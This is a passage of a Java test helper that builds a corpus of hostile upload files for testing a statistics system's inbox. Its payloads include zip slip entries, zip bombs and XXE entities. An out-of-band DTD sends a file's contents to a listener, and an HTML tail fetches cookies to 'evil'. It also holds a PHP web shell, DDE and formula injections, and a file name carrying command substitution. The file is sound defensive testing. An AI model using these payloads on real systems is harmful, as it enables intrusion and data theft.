package uz.natlib.libstats.ingest.hostile;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.StandardProtocolFamily;
import java.net.UnixDomainSocketAddress;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.channels.FileChannel;
import java.nio.channels.ServerSocketChannel;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.concurrent.TimeUnit;
import java.util.function.Predicate;
import java.util.function.UnaryOperator;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;

import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;

import uz.natlib.libstats.workbook.ReturnLayout.Label;

/**
 * A corpus of malformed and malicious files for the inbox: each case one file (or link, pipe,
 * socket) with a name of its own ({@code h01-symlink-etc-passwd.xlsx}) and what must become of
 * it. Apart from the cases about files that are never taken (links, pipes, hidden, temporary and
 * lock files), every file also carries a plain reason to be rejected (a negative figure, an
 * unknown district) so that no hostile file can be accepted just because its hostile part went
 * unnoticed; the workbooks are returns of Kattaqo'rg'on district (1718215, Samarkand region),
 * so that nothing here could ever supersede a Bukhara sample.
 *
 * <p>{@code HostileInboxIT} takes {@code -Dhostile.only=h42,h44} or {@code -Dhostile.skip=h22,h23,h24} (case
 * names or their {@code hNN} prefixes) to look at some cases without others in the way.
 *
 * <p>Covers the classes of OWASP's File Upload Cheat Sheet: extensions and magic bytes, double
 * extensions, polyglots, sizes and zip bombs, path traversal in archives, XXE, external DTDs and
 * entity expansion, hostile names (control characters, bidi overrides, forged lines, length,
 * depth), links and special files, formula and DDE injection, macros and external links.
 */
public final class HostileCorpus {

    /** What must become of a file. */
    public enum Fate {
        /** Taken, read, rejected: {@code rejected/<date>/} with its feedback naming a rule. */
        REJECTED,
        /** The same bytes arrived before: {@code duplicates/<date>/}. */
        DUPLICATE,
        /** Never taken: still in the inbox, listed by the command. */
        LEFT_ALONE,
        /** Never taken and never listed: an Office lock file, still in the inbox. */
        LEFT_UNLISTED,
        /** Either is right (a name a system may refuse to take, or take and reject). */
        REJECTED_OR_LEFT_ALONE
    }

    /**
     * One hostile file.
     *
     * @param name           the case's name, e.g. {@code h01-symlink-etc-passwd}
     * @param path           the file's path below the corpus folder ({@code /}-separated)
     * @param fate           what must become of it
     * @param rules          when rejected, the feedback must name at least one of these rules (empty: any rule)
     * @param forbiddenRules rules the feedback must not name (e.g. UnreadableFile for one bad cell)
     * @param cell           when set, the cell (e.g. {@code F35}) that must carry exactly one error finding
     * @param notInFeedback  texts the feedback text must not contain (a whole long cell)
     * @param what           what is in it
     */
    public record Case(String name, String path, Fate fate, Set<String> rules, Set<String> forbiddenRules,
                       String cell, List<String> notInFeedback, String what) {
    }

    /**
     * The corpus as written.
     *
     * @param dir           the corpus folder
     * @param cases         every case by name, in the order written
     * @param canaries      unique strings of the files outside that must never show up inside LIBSTATS_HOME
     * @param softCanaries  canaries of a hard link's target: the bytes of a hard link are the sender's file too
     * @param markerNames   names of files that must not exist anywhere (zip-slip targets, a shell's output)
     * @param mustNotExist  absolute places those files would have landed
     * @param payloads      formula-injection payloads written into cells and notes
     */
    public record Manifest(Path dir, Map<String, Case> cases, List<String> canaries, List<String> softCanaries,
                           List<String> markerNames, List<Path> mustNotExist, List<String> payloads) {
    }

    // Kattaqo'rg'on district, Samarkand region: no sample of Bukhara can be superseded by these returns.
    static final String DISTRICT = "1718215";
    static final String REGION = "1718";
    private static final String DDE = "cmd|' /C calc'!A0";
    /** Formula-injection texts (OWASP CSV injection list); a feedback workbook must not hand them back as they came. */
    public static final List<String> PAYLOADS = List.of("=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1",
            "\r=1+1", "=" + DDE, "=HYPERLINK(");

    private final Path dir;
    private final Path outside;
    private final Path samples;
    private final String listener;
    private final Map<String, Case> cases = new LinkedHashMap<>();
    private final List<String> canaries = new ArrayList<>();
    private final List<String> softCanaries = new ArrayList<>();
    private final List<String> markerNames = new ArrayList<>();
    private final List<Path> mustNotExist = new ArrayList<>();
    private final String run = UUID.randomUUID().toString();
    private final Predicate<String> include;
    private final Xlsx base;
    private final byte[] legacy;
    private final List<String> csv;

    private HostileCorpus(Path dir, Path outside, Path samples, String listener, Predicate<String> include)
            throws IOException {
        this.include = include;
        this.dir = dir;
        this.outside = outside;
        this.samples = samples;
        this.listener = listener;
        this.base = baseReturn(samples.resolve("1706-buxoro-viloyati/1706246_jondor-tumani_2021_Q1.xlsx"));
        this.legacy = Files.readAllBytes(samples.resolve("flawed/f1_legacy.xls"));
        String text = Files.readString(samples.resolve("flawed/f2_long_format.csv"), StandardCharsets.UTF_8);
        this.csv = List.of(text.replace("\uFEFF", "").split("\r?\n"));
    }

    /**
     * Writes the corpus into {@code dir} and the files its links point at into {@code outside}.
     *
     * @param samples  the project's {@code sample-input} folder
     * @param listener base URL of an HTTP listener ({@code http://127.0.0.1:port}) that external DTDs
     *                 and links point at: any request it receives is a file reaching out
     */
    public static Manifest write(Path dir, Path outside, Path samples, String listener) throws IOException {
        return write(dir, outside, samples, listener, name -> true);
    }

    /** Only the cases {@code include} accepts (by name): to look at some without the others in the way. */
    public static Manifest write(Path dir, Path outside, Path samples, String listener, Predicate<String> include)
            throws IOException {
        Files.createDirectories(dir);
        Files.createDirectories(outside);
        HostileCorpus corpus = new HostileCorpus(dir, outside, samples, listener, include);
        corpus.writeAll();
        return new Manifest(dir, Collections.unmodifiableMap(corpus.cases), List.copyOf(corpus.canaries),
                List.copyOf(corpus.softCanaries), List.copyOf(corpus.markerNames), List.copyOf(corpus.mustNotExist),
                PAYLOADS);
    }

    // ------------------------------------------------------------------------------------------------
    // The cases

    private void writeAll() throws IOException {
        Canaries outsideFiles = writeOutside();
        linksAndSpecialFiles(outsideFiles);
        duplicates();
        names();
        typesAndExtensions();
        sizesAndLimits();
        archives(outsideFiles);
        xml(outsideFiles);
        cells();
        formulasMacrosLinks(outsideFiles);
        csvFiles();
    }

    private record Canaries(Path passwd, Path secretReturn, Path secretDir, Path xxe, Path hardlinkTarget) {
    }

    private Canaries writeOutside() throws IOException {
        String passwdCanary = canary();
        Path passwd = outside.resolve("passwd");
        Files.writeString(passwd, "root:x:0:0:" + passwdCanary + ":/root:/bin/bash\n");
        String returnCanary = canary();
        Path secretReturn = outside.resolve("secret-return.xlsx");
        // Stored, not deflated: the canary is then in the file's bytes, where a scan finds it.
        Files.write(secretReturn, base.copy().cell("F35", inline("F35", returnCanary, 16)).note("M66", returnCanary)
                .zip(false));
        String dirCanary = canary();
        Path secretDir = Files.createDirectories(outside.resolve("secret-dir"));
        Files.writeString(secretDir.resolve("secret.xlsx"), dirCanary + "\n");
        String xxeCanary = canary();
        Path xxe = outside.resolve("xxe-canary.txt");
        Files.writeString(xxe, xxeCanary);
        String hardCanary = "CANARY-HARDLINK-" + UUID.randomUUID();
        softCanaries.add(hardCanary);
        Path hardlinkTarget = outside.resolve("hardlink-target.xlsx");
        Files.writeString(hardlinkTarget, hardCanary + " is not a workbook\n");
        // What an external DTD fetched from outside would say.
        Files.writeString(outside.resolve("evil.dtd"), "<!ENTITY % file SYSTEM \"file://" + xxe
                + "\"><!ENTITY % all \"<!ENTITY &#x25; send SYSTEM '" + listener + "/leak?%file;'>\">%all;%send;");
        return new Canaries(passwd, secretReturn, secretDir, xxe, hardlinkTarget);
    }

    private String canary() {
        String canary = "CANARY-" + UUID.randomUUID();
        canaries.add(canary);
        return canary;
    }

    private void linksAndSpecialFiles(Canaries c) throws IOException {
        symlink("h01-symlink-etc-passwd", "h01-symlink-etc-passwd.xlsx", c.passwd(),
                "a link to a passwd-like canary file outside LIBSTATS_HOME");
        Path link = dir.resolve("h02-symlink-relative-outside.xlsx");
        symlink("h02-symlink-relative-outside", "h02-symlink-relative-outside.xlsx",
                link.getParent().relativize(c.secretReturn()), "a relative link (../..) to a workbook outside");
        symlink("h03-symlink-to-folder", "h03-symlink-to-folder", c.secretDir(),
                "a link to a folder outside, holding a canary workbook");
        symlink("h04-symlink-dangling", "h04-symlink-dangling.xlsx", outside.resolve("no-such-file.xlsx"),
                "a link to nothing");
        if (include.test("h05-fifo")) {
            run("mkfifo", dir.resolve("h05-fifo.xlsx").toString());
            leftAlone("h05-fifo", "h05-fifo.xlsx", "a named pipe: reading it would block forever");
        }
        Path socket = dir.resolve("h06-socket.xlsx");
        if (include.test("h06-socket") && socket.toString().getBytes(StandardCharsets.UTF_8).length < 100) {
            try (ServerSocketChannel server = ServerSocketChannel.open(StandardProtocolFamily.UNIX)) {
                server.bind(UnixDomainSocketAddress.of(socket));
            }
            leftAlone("h06-socket", "h06-socket.xlsx", "a Unix socket");
        }
        if (include.test("h07-hardlink-outside")) {
            Files.createLink(dir.resolve("h07-hardlink-outside.xlsx"), c.hardlinkTarget());
            add("h07-hardlink-outside", "h07-hardlink-outside.xlsx", Fate.LEFT_ALONE, rules(), rules(),
                    "a hard link to a text file outside (not a workbook)");
        }
        file("h08-hidden", ".h08-hidden.xlsx", Fate.LEFT_ALONE, uniqueReturn("h08"), rules(), "a hidden file");
        file("h09-hidden-folder", ".h09-hidden-folder/h09-inside.xlsx", Fate.LEFT_ALONE, uniqueReturn("h09"), rules(),
                "a file in a hidden folder");
        byte[] lock = new byte[162];
        byte[] owner = "hostile-h10".getBytes(StandardCharsets.UTF_16LE);
        lock[0] = 11;
        System.arraycopy(owner, 0, lock, 1, owner.length);
        file("h10-office-lock", "~$h10-lock.xlsx", Fate.LEFT_UNLISTED, lock, rules(), "an Office lock file");
        file("h11-temp", "h11-temp.xlsx.tmp", Fate.LEFT_ALONE, uniqueReturn("h11"), rules(), "a temporary file");
        file("h12-part", "h12-download.xlsx.part", Fate.LEFT_ALONE, uniqueReturn("h12"), rules(),
                "a download in progress (.part)");
        file("h13-crdownload", "h13-download.xlsx.crdownload", Fate.LEFT_ALONE, uniqueReturn("h13"), rules(),
                "a browser download in progress");
        file("h14-backup-tilde", "h14-backup.xlsx~", Fate.LEFT_ALONE, uniqueReturn("h14"), rules(),
                "an editor's backup file");
    }

    private void duplicates() throws IOException {
        file("h15-copy-of-good-sample", "h15-copy-of-good-sample.xlsx", Fate.DUPLICATE,
                Files.readAllBytes(samples.resolve("1706-buxoro-viloyati/1706204_olot-tumani_2021_Q1.xlsx")), rules(),
                "the bytes of a good Bukhara sample under another name");
        byte[] original = uniqueReturn("h16");
        file("h16-rejected-original", "h16-rejected-original.xlsx", Fate.REJECTED, original, rules("NegativeValue"),
                "a return with a negative figure");
        file("h17-same-bytes-as-h16", "h17-same-bytes-as-h16.csv", Fate.DUPLICATE, original, rules(),
                "h16's bytes again, named .csv");
    }

    private void names() throws IOException {
        rejectedReturn("h18-rtl-override", "h18-rtl-\u202Exslx.exe", "a right-to-left override: the name reads "
                + "…exe.xlsx but ends in .exe");
        rejectedReturn("h19-control-chars", "h19-ctrl-\u0001\u0007\u001B[31mred\u001B[0m\u007F.xlsx",
                "control characters and an ANSI colour escape in the name");
        rejectedReturn("h20-newline-forged-outcome", "h20-forged\nOutcome: ACCEPTED\nNatija: QABUL QILINDI\n"
                + "Натижа: ҚАБУЛ ҚИЛИНДИ\n.xlsx", "newlines in the name forging an accepted outcome");
        rejectedReturn("h21-cr-tab-forged-outcome", "h21-cr\rOutcome: ACCEPTED\t\u2028x.xlsx",
                "a carriage return, a tab and a line separator in the name");
        String longAscii = "h22-long-" + "a".repeat(240 - "h22-long-".length() - ".xlsx".length()) + ".xlsx";
        file("h22-name-240-ascii", longAscii, Fate.REJECTED_OR_LEFT_ALONE, uniqueReturn("h22"),
                rules("NegativeValue"), "a name of 240 ASCII characters");
        String longCyrillic = "ж".repeat(120) + ".xlsx";
        file("h23-name-120-cyrillic", longCyrillic, Fate.REJECTED_OR_LEFT_ALONE, uniqueReturn("h23"),
                rules("NegativeValue"), "a name of 120 Cyrillic letters (240 bytes in UTF-8)");
        StringBuilder deep = new StringBuilder("h24-deep");
        for (int i = 1; i <= 50; i++) {
            deep.append(String.format("/depth-%02d", i));
        }
        file("h24-folders-50-deep", deep + "/h24-deep.xlsx", Fate.REJECTED_OR_LEFT_ALONE, uniqueReturn("h24"),
                rules("NegativeValue"), "a file 50 folders deep");
        rejectedReturn("h25-encoded-traversal", "h25--%2e%2e%2F..%2Fescape--x%00.xlsx",
                "URL-encoded ../ and NUL, and the intake name's own -- separator, in the name");
        rejectedReturn("h26-spoof", "h26-spoof.xlsx", "a return whose feedback a later file tries to spoof");
        file("h27-spoofed-feedback-name", "h26-spoof.xlsx.feedback.txt", Fate.REJECTED,
                ("== Result of the return check ==\nFile: h26-spoof.xlsx\nOutcome: ACCEPTED\n" + run).getBytes(
                        StandardCharsets.UTF_8), rules(), "a text file named like h26's feedback, saying ACCEPTED");
        rejectedReturn("h26a-same-name-folder-a", "h26a-same-name/a/return.xlsx",
                "a return named like h26b's, in another folder: both go to rejected/<date>/ under one name");
        rejectedReturn("h26b-same-name-folder-b", "h26a-same-name/b/return.xlsx",
                "a different return named like h26a's, in another folder");
        rejectedReturn("h28-trailing-dot-space", "h28-trailing.xlsx. ", "a name ending in a dot and a space");
        String marker = "pwned-" + run;
        markerNames.add(marker);
        mustNotExist.add(Path.of(marker).toAbsolutePath());
        rejectedReturn("h29-shell-metacharacters", "h29-$(touch " + marker + ");`touch " + marker + "`|&<>*?'\".xlsx",
                "shell metacharacters and a command substitution in the name");
    }

    private void typesAndExtensions() throws IOException {
        file("h30-pdf-named-xlsx", "h30-pdf-named.xlsx", Fate.REJECTED,
                ("%PDF-1.7\n%\u00E2\u00E3\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
                        + "trailer<</Root 1 0 R>>\n%%EOF\n" + run).getBytes(StandardCharsets.ISO_8859_1),
                rules("UnreadableFile"), "a PDF with JavaScript named .xlsx");
        ByteArrayOutputStream png = new ByteArrayOutputStream();
        png.write(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n', 0, 0, 0, 13, 'I', 'H', 'D', 'R'});
        png.write(run.getBytes(StandardCharsets.US_ASCII));
        file("h31-png-named-xlsx", "h31-image.xlsx", Fate.REJECTED, png.toByteArray(), rules("UnreadableFile"),
                "PNG bytes named .xlsx");
        byte[] exe = new byte[512];
        exe[0] = 'M';
        exe[1] = 'Z';
        byte[] stub = ("This program cannot be run in DOS mode. " + run).getBytes(StandardCharsets.US_ASCII);
        System.arraycopy(stub, 0, exe, 78, stub.length);
        file("h32-double-extension-exe", "h32-report.xlsx.exe", Fate.REJECTED, exe, rules("UnreadableFile"),
                "a Windows executable with a double extension .xlsx.exe");
        file("h33-double-extension-php", "h33-shell.xlsx.php", Fate.REJECTED,
                ("<?php system($_GET['c']); /* " + run + " */ ?>\n").getBytes(StandardCharsets.UTF_8),
                rules("UnreadableFile"), "a PHP web shell named .xlsx.php");
        file("h34-html-table-named-xls", "h34-html-table.xls", Fate.REJECTED,
                ("<html><body><script>alert(1)</script><table><tr><td>Код</td><td>1-қиймат</td></tr>"
                        + "<tr><td>1.1</td><td>5</td></tr></table><!-- " + run + " --></body></html>")
                        .getBytes(StandardCharsets.UTF_8), rules("UnreadableFile"),
                "an HTML table saved as .xls (what some exports do)");
        file("h35-csv-named-xlsx", "h35-long-form.xlsx", Fate.REJECTED, csvBytes(csvNegative("h35")), rules(),
                "a long-form CSV return (with a negative figure) named .xlsx");
        file("h36-xlsx-named-csv", "h36-workbook.csv", Fate.REJECTED, uniqueReturn("h36"), rules(),
                "a workbook (with a negative figure) named .csv");
        file("h37-xls-named-xlsx", "h37-legacy.xlsx", Fate.REJECTED, legacyNegative(), rules(),
                "an Excel 97-2003 workbook (with a negative figure) named .xlsx");
        Zip ods = new Zip().stored("mimetype", "application/vnd.oasis.opendocument.spreadsheet".getBytes())
                .add("content.xml", ("<office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:"
                        + "office:1.0\"><!-- " + run + " --></office:document-content>").getBytes())
                .add("META-INF/manifest.xml", "<manifest/>".getBytes());
        file("h38-ods-named-xlsx", "h38-calc.xlsx", Fate.REJECTED, ods.bytes(), rules(),
                "an OpenDocument spreadsheet named .xlsx");
        ByteArrayOutputStream gif = new ByteArrayOutputStream();
        gif.write("GIF89a".getBytes(StandardCharsets.US_ASCII));
        gif.write(new byte[] {1, 0, 1, 0, 0, 0, 0, ',', 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 0, ';'});
        gif.write(uniqueReturn("h39"));
        file("h39-polyglot-gif-zip", "h39-polyglot.xlsx", Fate.REJECTED, gif.toByteArray(), rules(),
                "a GIF image that is also a zip (a workbook appended)");
        ByteArrayOutputStream tail = new ByteArrayOutputStream();
        tail.write(uniqueReturn("h40"));
        tail.write("<html><script>fetch('//evil/'+document.cookie)</script></html>".getBytes(StandardCharsets.UTF_8));
        file("h40-polyglot-html-tail", "h40-polyglot.xlsx", Fate.REJECTED, tail.toByteArray(), rules(),
                "a workbook with an HTML page appended after its zip directory");
        file("h41-empty", "h41-empty.xlsx", Fate.REJECTED, new byte[0], rules("EmptyFile"), "0 bytes");
    }

    private void sizesAndLimits() throws IOException {
        // 100 MiB on paper, a few KB on disk: the padding is a hole in a sparse file.
        if (include.test("h42-huge-100mb")) {
            Zip huge = base.copy().note("M66", "h42").toZip(true);
            huge.sparse("xl/media/image1.bin", 100L << 20);
            huge.write(dir.resolve("h42-huge-100mb.xlsx"));
            add("h42-huge-100mb", "h42-huge-100mb.xlsx", Fate.REJECTED, rules("FileTooLarge"), rules(),
                    "a 100 MB workbook (a 100 MB stored part, sparse on disk)");
        }
        Zip unpacks = base.copy().note("M66", "h43").toZip(true);
        unpacks.replace(padded("xl/worksheets/sheet1.xml", base.copy().note("M66", "h43").sheet(), 100));
        file("h43-unpacks-100mb", "h43-unpacks-100mb.xlsx", Fate.REJECTED, unpacks.bytes(),
                rules("UnpacksTooLarge", "TooManyRows"), "a small workbook whose sheet unpacks to 100 MB of rows");
        Zip bomb = base.copy().note("M66", "h44").toZip(true);
        bomb.replace(padded("xl/worksheets/sheet1.xml", base.copy().note("M66", "h44").sheet(), 1024));
        file("h44-zip-bomb-1gb", "h44-zip-bomb.xlsx", Fate.REJECTED, bomb.bytes(),
                rules("UnpacksTooLarge", "TooManyRows"), "a zip bomb: the sheet unpacks to 1 GB");
        Zip strings = base.copy().note("M66", "h45").cell("F35", "<c r=\"F35\" s=\"16\" t=\"s\"><v>0</v></c>").toZip(true);
        byte[] chunk = "A".repeat(1 << 20).getBytes(StandardCharsets.US_ASCII);
        strings.replace(Zip.repeated("xl/sharedStrings.xml",
                ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><sst xmlns=\"http://schemas.openxmlformats.org/"
                        + "spreadsheetml/2006/main\" count=\"1\" uniqueCount=\"1\"><si><t>").getBytes(), chunk, 300,
                "</t></si></sst>".getBytes()));
        file("h45-shared-string-bomb", "h45-shared-string-bomb.xlsx", Fate.REJECTED, strings.bytes(),
                rules("UnpacksTooLarge", "CellTextTooLong"), "one shared string of 300 MB, deflated to a few hundred KB");
        Zip lying = base.copy().note("M66", "h46").toZip(true);
        Zip.Entry real = padded("xl/worksheets/sheet1.xml", base.copy().note("M66", "h46").sheet(), 60);
        lying.replace(real.lyingAbout(base.sheet().getBytes(StandardCharsets.UTF_8).length));
        file("h46-zip-lying-sizes", "h46-lying-sizes.xlsx", Fate.REJECTED, lying.bytes(),
                rules("UnpacksTooLarge", "UnreadableFile"),
                "the sheet's zip headers claim 145 KB, it unpacks to 60 MB");
        Zip parts = base.copy().note("M66", "h47").toZip(true);
        for (int i = 0; i < 1500; i++) {
            parts.add("customXml/item" + i + ".xml", ("<x>" + i + "</x>").getBytes());
        }
        file("h47-too-many-parts", "h47-too-many-parts.xlsx", Fate.REJECTED, parts.bytes(), rules("TooManyParts"),
                "1 500 extra parts in the zip");
        Xlsx sheets = uniqueBase("h48");
        StringBuilder sheetList = new StringBuilder();
        StringBuilder rels = new StringBuilder();
        StringBuilder types = new StringBuilder();
        for (int i = 1; i <= 60; i++) {
            sheetList.append("<sheet name=\"S").append(i).append("\" sheetId=\"").append(100 + i)
                    .append("\" r:id=\"rIdX").append(i).append("\"/>");
            rels.append("<Relationship Id=\"rIdX").append(i).append("\" Target=\"worksheets/extra").append(i)
                    .append(".xml\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
                            + "worksheet\"/>");
            types.append("<Override ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml."
                    + "worksheet+xml\" PartName=\"/xl/worksheets/extra").append(i).append(".xml\"/>");
            sheets.put("xl/worksheets/extra" + i + ".xml", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><worksheet "
                    + "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData/></worksheet>");
        }
        sheets.edit("xl/workbook.xml", x -> x.replace("</sheets>", sheetList + "</sheets>"));
        sheets.edit("xl/_rels/workbook.xml.rels", x -> x.replace("</Relationships>", rels + "</Relationships>"));
        sheets.edit("[Content_Types].xml", x -> x.replace("</Types>", types + "</Types>"));
        file("h48-too-many-sheets", "h48-too-many-sheets.xlsx", Fate.REJECTED, sheets.zip(true),
                rules("TooManySheets"), "62 sheets");
        StringBuilder rows = new StringBuilder();
        for (int r = 237; r < 237 + 12_000; r++) {
            rows.append("<row r=\"").append(r).append("\"><c r=\"N").append(r)
                    .append("\" t=\"inlineStr\"><is><t>x</t></is></c></row>");
        }
        file("h49-too-many-rows", "h49-too-many-rows.xlsx", Fate.REJECTED,
                uniqueBase("h49").edit("xl/worksheets/sheet1.xml", x -> x.replace("</sheetData>", rows + "</sheetData>"))
                        .zip(true), rules("TooManyRows"), "12 000 more rows after the table");
        file("h50-too-many-columns", "h50-too-many-columns.xlsx", Fate.REJECTED, uniqueBase("h50")
                .edit("xl/worksheets/sheet1.xml", x -> insertInRow(x, 13,
                        "<c r=\"XFD13\" t=\"inlineStr\"><is><t>far right</t></is></c>")).zip(true),
                rules("TooManyColumns"), "a cell in column XFD (16 384)");
        file("h51-dimension-lies", "h51-dimension-lies.xlsx", Fate.REJECTED, uniqueBase("h51")
                .edit("xl/worksheets/sheet1.xml", x -> x.replace("<dimension ref=\"A1:M236\"/>",
                        "<dimension ref=\"A1:XFD1048576\"/>").replace("</sheetData>",
                        "<row r=\"1048576\"><c r=\"A1048576\" t=\"inlineStr\"><is><t>end</t></is></c></row></sheetData>"))
                .zip(true), rules(), "the sheet claims A1:XFD1048576 and has a cell in the last row");
        file("h52-row-index-overflow", "h52-row-index-overflow.xlsx", Fate.REJECTED, uniqueBase("h52")
                .edit("xl/worksheets/sheet1.xml", x -> x.replace("</sheetData>",
                        "<row r=\"2147483647\"><c r=\"N2147483647\" t=\"inlineStr\"><is><t>x</t></is></c></row>"
                                + "<row r=\"-5\"><c r=\"N-5\" t=\"inlineStr\"><is><t>y</t></is></c></row></sheetData>"))
                .zip(true), rules(), "rows numbered 2147483647 and -5");
    }

    private void archives(Canaries c) throws IOException {
        String slip = "zipslip-" + run;
        markerNames.add(slip);
        mustNotExist.add(Path.of("/" + slip + ".txt"));
        mustNotExist.add(Path.of("/tmp/" + slip + "-abs.txt"));
        Zip traversal = uniqueBase("h53").toZip(true)
                .add("../../../../../../../../../../../../" + slip + ".txt", "zip slip".getBytes())
                .add("/tmp/" + slip + "-abs.txt", "zip slip".getBytes())
                .add("..\\..\\..\\..\\" + slip + "-win.txt", "zip slip".getBytes())
                .add("xl/../../../" + slip + "-mid.txt", "zip slip".getBytes());
        file("h53-zip-slip", "h53-zip-slip.xlsx", Fate.REJECTED, traversal.bytes(), rules(),
                "zip entries named ../../x, /tmp/x and ..\\..\\x");
        Zip symlinkEntry = uniqueBase("h54").toZip(true);
        symlinkEntry.add(Zip.Entry.symlink("xl/media/image1.png", c.passwd().toString()));
        file("h54-zip-symlink-entry", "h54-zip-symlink-entry.xlsx", Fate.REJECTED, symlinkEntry.bytes(), rules(),
                "a zip entry that is a Unix symlink to the passwd canary");
        Xlsx other = uniqueBase("h55").cell("F104", "<c r=\"F104\" s=\"16\" t=\"n\"><v>7</v></c>");
        Zip ambiguous = uniqueBase("h55").toZip(true).add("xl/worksheets/sheet1.xml", other.sheet().getBytes(
                StandardCharsets.UTF_8));
        file("h55-duplicate-entry-names", "h55-duplicate-entries.xlsx", Fate.REJECTED, ambiguous.bytes(),
                rules("AmbiguousArchive"), "two entries named xl/worksheets/sheet1.xml with different figures");
        byte[] whole = uniqueReturn("h56");
        file("h56-truncated-zip", "h56-truncated.xlsx", Fate.REJECTED, Arrays.copyOf(whole, whole.length * 55 / 100),
                rules("UnreadableFile"), "the first 55% of a workbook");
        Zip badCrc = uniqueBase("h57").toZip(true);
        badCrc.mapEntries(e -> e.name().equals("xl/worksheets/sheet1.xml") ? e.withCrc(e.crc() ^ 0xFFFFFFFFL) : e);
        file("h57-bad-crc", "h57-bad-crc.xlsx", Fate.REJECTED, badCrc.bytes(), rules(), "the sheet's CRC is wrong");
        Zip flagged = uniqueBase("h58").toZip(true);
        flagged.mapEntries(e -> e.withFlags(e.flags() | 1));
        file("h58-zip-encrypted-flag", "h58-zip-encrypted.xlsx", Fate.REJECTED, flagged.bytes(),
                rules("EncryptedFile", "UnreadableFile"), "every zip entry flagged as encrypted (PKWARE)");
        file("h59-ole2-encrypted-looking", "h59-encrypted.xlsx", Fate.REJECTED, ole2(Map.of(
                "EncryptionInfo", ("\u0004\u0000\u0004\u0000" + run).getBytes(StandardCharsets.ISO_8859_1),
                "EncryptedPackage", new byte[4096])), rules("EncryptedFile"),
                "an OLE2 container with EncryptionInfo and EncryptedPackage (garbage inside)");
        file("h60-ole2-word-named-xls", "h60-word.xls", Fate.REJECTED, ole2(Map.of(
                "WordDocument", ("not a workbook " + run).getBytes(StandardCharsets.US_ASCII))),
                rules("UnreadableFile", "NoReturnTable"), "an OLE2 Word document named .xls");
        byte[] xls = legacyNegative();
        file("h61-truncated-xls", "h61-truncated.xls", Fate.REJECTED, Arrays.copyOf(xls, xls.length * 40 / 100),
                rules(), "the first 40% of an .xls");
    }

    private void xml(Canaries c) throws IOException {
        String file = "file://" + c.xxe();
        String entity = "<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM \"" + file + "\">]>";
        file("h62-xxe-sheet", "h62-xxe-sheet.xlsx", Fate.REJECTED, uniqueBase("h62")
                .edit("xl/worksheets/sheet1.xml", x -> doctype(x, entity))
                .cell("F35", "<c r=\"F35\" s=\"16\" t=\"inlineStr\"><is><t>&xxe;</t></is></c>")
                .cell("M67", "<c r=\"M67\" s=\"17\" t=\"inlineStr\"><is><t>&xxe;</t></is></c>")
                .zip(true), rules(), "an external entity reading a canary file, used in a value cell and a note");
        file("h63-xxe-shared-strings", "h63-xxe-shared-strings.xlsx", Fate.REJECTED, uniqueBase("h63")
                .put("xl/sharedStrings.xml", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE sst [<!ENTITY xxe "
                        + "SYSTEM \"" + file + "\">]><sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/"
                        + "main\" count=\"1\" uniqueCount=\"1\"><si><t>&xxe;</t></si></sst>")
                .cell("F35", "<c r=\"F35\" s=\"16\" t=\"s\"><v>0</v></c>").zip(true), rules(),
                "an external entity in the shared strings");
        file("h64-xxe-workbook-sheet-name", "h64-xxe-workbook.xlsx", Fate.REJECTED, uniqueBase("h64")
                .edit("xl/workbook.xml", x -> doctype(x, "<!DOCTYPE workbook [<!ENTITY xxe SYSTEM \"" + file + "\">]>")
                        .replace("name=\"_libstats\"", "name=\"&xxe;\""))
                .zip(true), rules(), "an external entity as the hidden sheet's name");
        file("h65-xxe-core-properties", "h65-xxe-core.xlsx", Fate.REJECTED, uniqueBase("h65")
                .edit("docProps/core.xml", x -> doctype(x, "<!DOCTYPE cp:coreProperties [<!ENTITY xxe SYSTEM \""
                        + file + "\">]>").replace("<dc:creator>", "<dc:title>&xxe;</dc:title><dc:creator>"))
                .zip(true), rules(), "an external entity in the document properties (read when the feedback "
                + "workbook is built)");
        file("h66-external-dtd-http", "h66-external-dtd.xlsx", Fate.REJECTED, uniqueBase("h66")
                .edit("xl/worksheets/sheet1.xml", x -> doctype(x, "<!DOCTYPE worksheet SYSTEM \"" + listener
                        + "/sheet.dtd\">"))
                .edit("[Content_Types].xml", x -> doctype(x, "<!DOCTYPE Types SYSTEM \"" + listener + "/types.dtd\">"))
                .zip(true), rules(), "external DTDs on an HTTP listener (sheet and content types)");
        file("h67-xxe-out-of-band", "h67-xxe-oob.xlsx", Fate.REJECTED, uniqueBase("h67")
                .edit("xl/worksheets/sheet1.xml", x -> doctype(x, "<!DOCTYPE worksheet [<!ENTITY % file SYSTEM \""
                        + file + "\"><!ENTITY % dtd SYSTEM \"" + listener + "/oob.dtd\">%dtd;]>"))
                .edit("xl/_rels/workbook.xml.rels", x -> doctype(x, "<!DOCTYPE Relationships [<!ENTITY % dtd "
